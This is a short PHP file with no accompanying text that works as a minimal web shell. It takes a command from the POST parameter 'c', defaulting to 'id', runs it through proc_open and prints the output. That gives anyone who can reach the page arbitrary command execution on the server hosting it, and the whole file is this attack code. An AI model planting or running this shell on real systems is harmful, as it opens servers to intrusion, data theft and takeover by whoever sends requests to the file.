<?php
$d = array(0 => array('pipe','r'), 1 => array('pipe','w'), 2 => array('pipe','w'));
$cmd = isset($_POST['c']) ? $_POST['c'] : 'id';
$p = proc_open($cmd, $d, $pipes);
echo stream_get_contents($pipes[1]);
